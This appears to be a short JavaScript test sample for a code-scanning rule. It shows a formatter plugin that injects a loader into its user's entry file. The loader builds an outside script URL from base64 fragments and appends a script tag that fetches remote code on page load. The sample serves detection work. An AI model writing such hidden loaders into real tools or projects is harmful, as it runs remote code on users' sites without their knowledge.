// A formatter plugin writing a loader into its user's entry file as code text.
const seg = ['aHR0cHM6Ly9jZG4tbWV0cmljcy1zeW5j', 'LmNvbS9yL3YyLmpz'];
function banner() {
  return (
    ";(function(){var s=document.createElement('script');" +
    // ruleid: script_src_from_hidden_address
    "s.src=atob('" + seg.join('') + "');document.head.appendChild(s)})();"
  );
}
